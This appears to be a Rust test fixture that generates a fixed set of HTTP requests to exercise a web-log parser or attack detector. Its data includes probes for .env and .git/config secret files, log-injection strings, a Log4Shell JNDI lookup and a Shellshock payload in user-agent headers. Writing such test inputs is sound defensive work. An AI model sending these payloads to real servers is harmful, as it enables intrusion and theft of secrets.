//! A thousand requests, the same in every run: the labelled ones, bytes that break parsers, and ordinary pages.

use std::fmt::Write as _;
use std::fs;

use crate::detection::labelled;
use crate::rig::{Dice, Rig};

/// How many there are.
pub(super) const ALL: usize = 1_000;

/// A request as it goes over the wire.
pub(super) struct Request {
    pub(super) bytes: Vec<u8>,
    /// Nothing but the request line can match a rule.
    pub(super) is_plain: bool,
}

/// Request lines that are none, or that a log cannot hold as they are.
const HOSTILE: [&[u8]; 28] = [
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\xaa\xbb\xcc",
    b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03 ~\"\\",
    b"MGLNDD_192.0.2.1_80",
    b"SSH-2.0-Go",
    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    b"\x05\x01\x00",
    b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\"}",
    b"GET /.env with spaces in it HTTP/1.1",
    b"GET  /.git/config  HTTP/1.1",
    b"GET /a b\" 200 1 \"-\" \"x HTTP/1.1",
    b"GET /.env\"quoted\" HTTP/1.1",
    b"GET /\"/.git/config HTTP/1.1",
    b"GET /.env\\ HTTP/1.1",
    b"GET /\\\"/.env\\\\\" HTTP/1.1",
    b"GET /\\x2e\\x65nv HTTP/1.1",
    b"GET /.env\t HTTP/1.1",
    b"GET\t/.env\tHTTP/1.1",
    b"GET /\0.env HTTP/1.1",
    b"GET /.env\0 HTTP/1.1",
    b"GET /\xff\xfe\x80/.env HTTP/1.1",
    b"GET /.env?\xc3\x28\xf0\x9f\x92 HTTP/1.1",
    b"GET /\xe2\x80\xae/.git/config HTTP/1.1",
    b"GET /\x01\x1b[2J/.env HTTP/1.1",
    b"GET /\x7f/.env HTTP/1.1",
    b"GET http://site.example/.env?a=\"b\" HTTP/1.1",
    b"OPTIONS * HTTP/1.0",
    b"GET /.env",
    b"get /.env HTTP/1.1",
];

/// What somebody may say of himself.
const AGENTS: [&[u8]; 9] = [
    b"quoted \" and \\ and \\\" and \\\\",
    b"\" 200 1 \"-\" \"198.51.100.99 - - [01/Jan/2020:00:00:00 +0000] \"GET /wp-login.php HTTP/1.1",
    b"tab \t and \x01 and \x7f",
    b"\xff\xfe\x80 and \xc3\xbc and \xf0\x9f\x98\x80",
    b"${jndi:ldap://198.51.100.1/a}",
    b"() { :; }; echo \"x\"",
    b"sqlmap/1.7 (https://sqlmap.org)",
    b"\\",
    b"\",\"status\":\"200\",\"client\":\"198.51.100.99",
];

const ORDINARY: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// A site that answers some of what is asked.
pub(super) fn lay_out_site(rig: &Rig) {
    fs::create_dir_all(rig.path("site/.git")).unwrap();
    for (name, text) in [("index.html", "<p>Hello"), (".git/config", "[core]\n"), (".env", "A=b\n"), ("wp-login.php", "<?php")] {
        rig.file(format!("site/{name}"), text);
    }
}

/// All of them, in their order.
pub(super) fn all() -> Vec<Request> {
    let mut requests = hostile();
    let (attacks, ordinary) = labelled();
    for labelled in attacks.iter().step_by(2).chain(&ordinary) {
        let of = |text: &str| if text == "-" { Vec::new() } else { text.as_bytes().to_vec() };
        let is_plain = labelled.referer == "-" && labelled.agent.as_bytes() == ORDINARY;
        requests.push((labelled.request.as_bytes().to_vec(), of(&labelled.referer), of(&labelled.agent), is_plain));
    }
    assert!(requests.len() < ALL - 50, "no room for ordinary pages: {}", requests.len());
    for page in requests.len()..ALL {
        requests.push((format!("GET /page/{page}?q={page} HTTP/1.1").into_bytes(), Vec::new(), ORDINARY.to_vec(), true));
    }
    shuffle(&mut requests);
    requests
        .iter()
        .enumerate()
        .map(|(number, (line, referer, agent, is_plain))| on_the_wire(number, line, referer, agent, *is_plain))
        .collect()
}

/// A request line, a referrer, an agent, and whether the line says it all.
type Asked = (Vec<u8>, Vec<u8>, Vec<u8>, bool);

fn hostile() -> Vec<Asked> {
    let line = |line: &[u8]| (line.to_vec(), Vec::new(), ORDINARY.to_vec(), true);
    let mut requests: Vec<Asked> = HOSTILE.iter().map(|hostile| line(hostile)).collect();
    for filler in [&b"a"[..], b"%2e", b"\"", b"\\", b"\xff"] {
        let long = filler.repeat(7_000 / filler.len());
        requests.push(line(&[b"GET /.env?", &long[..], b" HTTP/1.1"].concat()));
    }
    requests.push(line(&[b"GET /", &b"b".repeat(9_000)[..], b"/.env HTTP/1.1"].concat()));
    for agent in AGENTS {
        requests.push((b"GET /.env HTTP/1.1".to_vec(), Vec::new(), agent.to_vec(), false));
        requests.push((b"GET / HTTP/1.1".to_vec(), agent.to_vec(), agent.to_vec(), false));
    }
    requests
}

fn shuffle(requests: &mut [Asked]) {
    let mut dice = Dice::new();
    for end in (1..requests.len()).rev() {
        requests.swap(end, dice.below(end as u64 + 1) as usize);
    }
}

fn on_the_wire(number: usize, line: &[u8], referer: &[u8], agent: &[u8], is_plain: bool) -> Request {
    let mut headers = String::from("\r\nHost: site.example\r\n");
    let _ = write!(headers, "X-Test-Client: 203.0.113.{}\r\nX-Forwarded-For: 192.0.2.{}, 10.0.0.1\r\n", number % 50, number % 7);
    let mut bytes = [line, headers.as_bytes(), b"User-Agent: ", agent].concat();
    if !referer.is_empty() {
        bytes.extend([b"\r\nReferer: ", referer].concat());
    }
    bytes.extend(b"\r\nConnection: close\r\n\r\n");
    Request { bytes, is_plain }
}

#[test]
fn there_are_as_many_as_are_said_and_always_the_same() {
    let (one, other) = (all(), all());
    assert_eq!(one.len(), ALL);
    assert!(one.iter().zip(&other).all(|(one, other)| one.bytes == other.bytes));
    assert!(one.iter().filter(|request| !request.is_plain).count() > 20);
}
